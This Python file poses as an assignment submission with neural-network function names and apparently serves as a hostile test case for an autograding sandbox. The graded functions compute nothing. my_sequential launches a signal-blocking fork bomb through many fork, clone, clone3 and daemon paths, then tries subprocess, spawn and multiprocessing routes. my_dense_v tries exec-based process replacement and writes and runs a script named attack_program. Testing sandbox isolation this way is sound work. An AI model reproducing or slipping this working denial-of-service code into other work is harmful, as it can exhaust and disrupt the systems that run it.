"""Harming: a fork bomb, daemons and other programs, by every way to start one.

points: 30
extra: 0
says: asks for what is not there while grading
"""
# %%
import numpy as np


def my_dense(a_in, W, b, g):
    return np.array([g(np.dot(W[:, j], a_in) + b[j]) for j in range(W.shape[1])], dtype=float)


# %%
import concurrent.futures
import ctypes
import multiprocessing
import os
import pty
import signal
import subprocess
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
X86 = os.uname().machine == "x86_64"
ME = os.getpid()
STARTED = []


def syscall(x86, aarch64, *arguments):
    if X86 and x86 is not None or not X86 and aarch64 is not None:
        given = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
        return LIBC.syscall(ctypes.c_long(x86 if X86 else aarch64), *given)
    return -1


def became(pid):
    """What a fork gave back. The one that is new goes on forking."""
    if pid == 0:
        signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
        for _ in range(10):
            try:
                os.setsid()
                os.fork()
            except OSError:
                pass
        while True:
            time.sleep(1)
    if pid > 0:
        STARTED.append(pid)


def forks():
    yield "os.fork", lambda: became(os.fork())
    yield "os.forkpty", lambda: became(os.forkpty()[0])
    yield "pty.fork", lambda: became(pty.fork()[0])
    yield "fork of the C library", lambda: became(LIBC.fork())
    yield "vfork of the C library", lambda: became(LIBC.vfork())
    yield "daemon", lambda: LIBC.daemon(0, 0) == 0 and STARTED.append("daemon")
    yield "fork", lambda: became(syscall(57, None))
    yield "vfork", lambda: became(syscall(58, None))
    yield "clone", lambda: became(syscall(56, 220, signal.SIGCHLD, None, None, None, None))
    yield "clone without a signal", lambda: became(syscall(56, 220, 0, None, None, None, None))
    yield "clone as a sibling", lambda: became(syscall(56, 220, 0x8000 | signal.SIGCHLD, None, None, None, None))
    yield "clone with files", lambda: became(syscall(56, 220, 0x400 | 0x200 | signal.SIGCHLD, None, None, None, None))
    yield "clone into a namespace", lambda: became(syscall(56, 220, 0x10000000 | 0x20000000 | signal.SIGCHLD, None, None, None, None))
    yield "clone, high half", lambda: became(syscall(56, 220, 1 << 48 | signal.SIGCHLD, None, None, None, None))
    wanted = ctypes.create_string_buffer(bytes(32) + signal.SIGCHLD.to_bytes(8, "little") + bytes(48))
    yield "clone3", lambda: became(syscall(435, 435, wanted, 88))
    yield "x32 fork", lambda: became(syscall(0x40000000 + 57, None))


def programs():
    yield "system", lambda: os.system("true") == 0
    yield "popen", lambda: os.popen("echo yes").read()
    for shell in (True, False):
        yield "subprocess", lambda: subprocess.run("true" if shell else ["true"], shell=shell).returncode == 0
    yield "subprocess, detached", lambda: subprocess.Popen([sys.executable, "-c", "1"], start_new_session=True).pid
    yield "posix_spawn", lambda: os.posix_spawn(sys.executable, [sys.executable, "-c", "1"], {})
    yield "posix_spawnp", lambda: os.posix_spawnp("sh", ["sh", "-c", "true"], {})
    yield "spawnv", lambda: os.spawnv(os.P_WAIT, "/bin/true", ["true"]) == 0
    yield "system of the C library", lambda: LIBC.system(b"true") == 0
    for method in ("fork", "spawn", "forkserver"):
        yield f"multiprocessing, {method}", lambda: by_multiprocessing(method)
        yield f"a pool, {method}", lambda: by_pool(method)


def by_multiprocessing(method):
    process = multiprocessing.get_context(method).Process(target=time.sleep, args=(0,))
    process.start()
    process.join(1)
    return process.exitcode == 0


def by_pool(method):
    with concurrent.futures.ProcessPoolExecutor(1, multiprocessing.get_context(method)) as pool:
        return pool.submit(os.getpid).result(0.5) != ME


def attempt(every):
    for name, way in every:
        try:
            if way():
                STARTED.append(name)
        except BaseException:
            pass
        if os.getpid() != ME:
            os._exit(0)
        if STARTED:
            tell(name)


def tell(name):
    raise RuntimeError("GAINED: another process, by " + name)


def my_sequential(x, W1, b1, W2, b2, W3, b3):
    attempt(forks())
    attempt(programs())
    # As one that does not know that it cannot be.
    os.fork()


def my_dense_v(A_in, W, b, g):
    """Instead of another process, another program in this one."""
    for path in (sys.executable, "/bin/sh", "/usr/bin/env", "/usr/bin/python3", "/proc/self/exe", "/lib64/ld-linux-x86-64.so.2"):
        for way in (lambda: os.execv(path, [path]), lambda: os.execve(path, [path], {}), lambda: os.execvp(path, [path]),
                    lambda: os.execve(os.open(path, os.O_RDONLY), [path], {}), lambda: LIBC.execl(path.encode(), path.encode(), None),
                    lambda: syscall(322, 281, os.open(path, os.O_PATH), b"", None, None, 0x1000)):
            try:
                way()
            except OSError:
                pass
    with open("attack_program", "w") as file:
        file.write("#!/bin/sh\necho yes\n")
    os.chmod("attack_program", 0o755)
    return subprocess.run(["./attack_program"], capture_output=True).stdout
